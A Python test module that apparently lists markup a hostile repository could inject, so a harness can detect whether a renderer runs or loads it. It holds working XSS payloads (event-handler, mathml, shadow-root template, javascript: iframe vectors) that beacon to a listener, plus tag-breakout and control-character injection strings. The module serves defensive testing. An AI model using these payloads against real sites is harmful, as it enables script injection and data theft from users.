"""What a hostile repository writes wherever it may write.

Each text ends whatever it may stand in, and asks for an address of its own as soon as it is markup.
"""

from __future__ import annotations

ENDS = "</style></title></svg></code>\"'>"
_IMAGE = "new Image().src='URL'"
_FETCH = "fetch('URL',{mode:'no-cors'})"
RUNS = {
    "script": f"<script>{_IMAGE}</script>",
    "module": "<script type=module>import('URL')</script>",
    "onerror": f'<img src=x: onerror="{_IMAGE}">',
    "onload": f'<svg onload="{_IMAGE}">',
    "onbegin": f'<svg><animate onbegin="{_IMAGE}" attributeName=x dur=1s>',
    "ontoggle": f'<details open ontoggle="{_IMAGE}">',
    "onfocus": f'<input autofocus onfocus="{_IMAGE}">',
    "mathml": f'<math><mtext><img src=x: onerror="{_IMAGE}"></mtext></math>',
    "template": f'<p><template shadowrootmode=open><img src=x: onerror="{_IMAGE}"></template>',
    "javascript": f'<iframe src="javascript:parent.{_FETCH}"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>{_FETCH}</script>"></iframe>',
}
LOADS = {
    "image": "<img src='URL'>",
    "srcset": "<img srcset='URL 1x'>",
    "input": "<input type=image src='URL'>",
    "background": "<table background='URL'><td>x</table>",
    "video": "<video autoplay src='URL'></video>",
    "poster": "<video poster='URL'></video>",
    "frame": "<iframe src='URL'></iframe>",
    "object": "<object data='URL'></object>",
    "embed": "<embed src='URL'>",
    "use": "<svg><use href='URL#x'></use></svg>",
    "drawn": "<svg><image href='URL' width=9 height=9></image></svg>",
    "css": "<style>body{background:url(URL)}</style>",
    "import": "<style>@import 'URL';</style>",
    "sheet": "<link rel=stylesheet href='URL'>",
    "attribute": "<p style='background:url(URL)'>x</p>",
    "preload": "<link rel=preload as=image href='URL'>",
    "prefetch": "<link rel=prefetch href='URL'>",
    "base": "<base href='URL/'><img src='../base'>",
    "resolved": "<link rel=dns-prefetch href='//HOST'>",
}
TOGETHER = {**RUNS, **LOADS}
ALONE = {
    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
    "form": "<form action='URL' method=post><button autofocus>x</button></form>",
    "formaction": "<form><button formaction='URL'>x</button></form>",
    "ping": "<a ping='URL' href='#'>x</a>",
    "link": f'<a href="javascript:{_FETCH}">x</a>',
    "svglink": f'<svg><a href="javascript:{_FETCH}"><text y=9>x</text></a></svg>',
    "submitted": f'<form action="javascript:{_FETCH}"><button>x</button></form>',
}
"""Those that lead away from the page, some when it is clicked: each is on a page of its own."""
BEYOND_POLICIES = {"refresh", "resolved"}
"""What a page's policy cannot forbid: that nothing is markup has to hold alone."""
IDLE = frozenset({"resolved"})
"""What the browser without a screen does not do anywhere: it looks up no host ahead."""
ODD = "walk\nforged: passed\r\u202e\u2066\x00\x1b[2J\x85\u2028\ud800"
"""What no text of ours has in it: terminals and readers would take it for something else."""
HOST = "AT.invalid"
"""Nobody's; the browser notes that it asks for it."""


def written(root: str, at: str, texts: dict[str, str]) -> list[str]:
    """The texts, with the addresses of one page.

    Args:
        root: The listener's address.
        at: The page.
        texts: By name.
    """
    return [
        ENDS + text.replace("URL", f"{root}/{at}/{name}").replace("HOST", HOST.replace("AT", at))
        for name, text in texts.items()
    ]
